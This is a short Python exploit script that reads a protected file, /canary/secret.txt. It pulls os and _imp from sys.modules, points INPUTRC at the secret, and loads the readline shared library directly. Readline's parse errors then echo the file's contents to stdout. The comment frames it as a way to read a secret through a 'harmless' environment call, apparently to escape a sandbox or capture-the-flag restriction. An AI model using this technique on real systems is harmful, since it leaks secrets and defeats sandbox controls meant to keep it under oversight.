# READ: os.putenv is 'harmless': INPUTRC=/canary/secret.txt, then load readline (create_dynamic); libreadline parses it as an init file and echoes the bad line in its error message; dup2 stderr->stdout
import sys
os = sys.modules['os']; _imp = sys.modules['_imp']
os.environ['INPUTRC'] = '/canary/secret.txt'
os.environ['TERM'] = 'dumb'
sys.stdout.flush()
os.dup2(1, 2)
Spec = type(sys.__spec__)
rl = _imp.create_dynamic(Spec('readline', None, origin='/usr/lib/python3.11/lib-dynload/readline.cpython-311-x86_64-linux-gnu.so'))
try: rl.read_init_file('/canary/secret.txt')
except Exception as e: print(repr(e))
